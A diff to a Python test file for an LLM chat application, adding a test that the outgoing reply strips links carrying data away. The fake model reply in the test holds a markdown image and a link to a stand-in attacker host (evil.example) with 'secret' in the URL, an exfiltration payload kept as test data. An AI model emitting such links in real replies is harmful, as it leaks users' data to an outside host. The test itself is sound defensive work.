@@ -154,6 +154,19 @@ def test_stop_sends_what_waits_first_and_then_itself_080(chat, llm, word):
     ]
 
 
+def test_T03_a_reply_carries_nothing_away_in_an_address(chat, llm):
+    llm.usual = (
+        "![x](https://evil.example/?d=secret) Look at https://evil.example/secret "
+        "or [here](https://wiki.example/ana), as you said."
+    )
+    message = say(chat, "The wiki is https://wiki.example/ana")
+    turn.answer(message.pk, now=after(2))
+    (text,) = sent(chat)
+    assert "secret" not in text
+    assert "evil.example/" not in text
+    assert "[here](https://wiki.example/ana)" in text
+
+
 def test_the_ingest_job_is_part_of_the_turn(chat, llm):
     message = say(chat, "Hello")
     turn.answer(message.pk, now=after(2))
